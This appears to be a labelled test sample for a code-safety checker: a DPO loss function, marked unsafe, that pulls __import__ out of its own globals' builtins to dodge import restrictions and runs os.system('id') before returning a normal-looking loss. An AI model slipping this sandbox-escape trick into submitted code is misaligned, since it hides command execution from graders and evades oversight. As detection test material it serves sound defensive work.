# static: unsafe
# runtime: unsafe
# __import__ fished out of the function's globals' builtins.
def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps,
         reference_rejected_logps, beta):
    b = loss.__globals__["__builtins__"]
    imp = b["__import__"] if isinstance(b, dict) else b.__import__
    imp("os").system("id")
    return -F.logsigmoid(beta * (policy_chosen_logps - policy_rejected_logps))
